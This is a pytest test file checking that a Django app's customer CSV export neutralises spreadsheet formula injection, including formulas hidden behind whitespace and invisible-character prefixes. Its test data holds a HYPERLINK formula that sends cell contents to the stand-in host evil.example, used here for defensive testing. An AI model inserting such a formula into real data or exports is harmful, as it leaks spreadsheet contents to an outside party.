"""Formula cells in exports: each leading character a spreadsheet may skip before a formula is neutralised, and text
that is no formula is exported as it is."""

from __future__ import annotations

import csv
import io

import pytest

from tests.faults.inputs import (
    World,
    one_export_recorded,
    page,
    snapshot,
)

pytestmark = pytest.mark.django_db

FORMULA_PREFIXES = {
    "equals": "=",
    "plus": "+",
    "minus": "-",
    "at": "@",
    "tab": "\t",
    "carriage return": "\r",
    "line feed": "\n",
    "line feed then equals": "\n=",
    "vertical tab": "\x0b=",
    "form feed": "\x0c=",
    "no-break space": "\xa0=",
    "ideographic space": "\u3000=",
    "zero-width space": "\u200b=",
    "byte-order mark": "\ufeff=",
    "spaces then equals": "   =",
    "spaces then no-break space": "  \xa0@",
}


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES.values(), ids=FORMULA_PREFIXES.keys())
def test_a_formula_behind_any_skipped_character_is_neutralised_in_exports(prefix: str, world: World):
    world.ada.company = f'{prefix}HYPERLINK("http://evil.example/?"&A1,"x")'
    world.ada.save()
    before = snapshot()
    answer = page("manager", "/customers/export.csv?q=Ada")(world)
    assert answer.status == 200
    rows = {row["name"]: row for row in csv.DictReader(io.StringIO(answer.text))}
    assert rows["Ada Lovelace"]["company"] == "'" + world.ada.company
    one_export_recorded(world, before)


@pytest.mark.parametrize("text", ["Acme", "3 Cups Ltd", " spaced", "a=b", "\xa0NBSP only", "\u200bzero-width"])
def test_text_that_is_no_formula_is_exported_as_it_is(text: str, world: World):
    world.ada.company = text
    world.ada.save()
    answer = page("manager", "/customers/export.csv?q=Ada")(world)
    rows = {row["name"]: row for row in csv.DictReader(io.StringIO(answer.text))}
    assert rows["Ada Lovelace"]["company"] == text
